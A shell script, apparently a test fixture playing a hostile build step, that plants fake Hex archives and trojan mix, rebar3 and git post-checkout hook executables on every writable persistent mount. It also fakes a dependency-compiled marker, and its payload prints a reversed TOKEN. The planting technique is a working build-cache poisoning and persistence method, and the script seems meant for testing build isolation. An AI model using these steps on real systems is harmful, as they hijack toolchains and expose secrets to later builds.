# A build step of a hostile project: plants programs wherever what it writes may stay for other builds.
# shellcheck shell=sh
set -eu
cat >hex.ex <<'EOF'
for name <- [Hex, Mix.Tasks.Hex.Info, Mix.Tasks.Local.Hex] do
  defmodule name do
    def version, do: "9.9.9"

    for function <- [:start, :init, :run], arity <- [0, 1] do
      arguments = Macro.generate_arguments(arity, __MODULE__)
      def unquote(function)(unquote_splicing(arguments)) do
        IO.puts("PLANTED " <> String.reverse(System.get_env("TOKEN", "")))
      end
    end
  end
end
EOF
mkdir -p hex-9.9.9/ebin
elixirc -o hex-9.9.9/ebin hex.ex
cp hex-9.9.9/ebin/* _build/
cat >program <<'EOF'
#!/bin/sh
echo PLANTED $TOKEN | rev
exit 1
EOF
chmod +x program
# Whatever may be written to and is neither the container's own nor memory.
findmnt --noheadings --list --output TARGET,FSTYPE | while read -r place kind; do
    case $kind in overlay | tmpfs | proc | sysfs | devpts | mqueue | cgroup*) continue ;; esac
    if [ ! -d "$place" ] || [ ! -w "$place" ]; then continue; fi
    echo "PLANTED $place" >"$place/mark"
    for name in bin/mix mix/rebar3 mix/elixir/1-14/rebar3 rebar3/bin/rebar3 \
        npm/_cacache/x git/hooks/post-checkout dependency/.git/hooks/post-checkout; do
        mkdir -p "$place/$(dirname $name)" && cp program "$place/$name"
    done
    for home in mix rebar3 .mix; do
        mkdir -p "$place/$home/archives/hex-9.9.9"
        cp -r hex-9.9.9 "$place/$home/archives/hex-9.9.9/"
    done
done
# A dependency that is said to be compiled already, for this very state of the lock.
mkdir -p deps/dependency _build/prod/lib/dependency/ebin
echo "$PKGREL_DEPENDENCIES" >_build/.pkgrel-complete
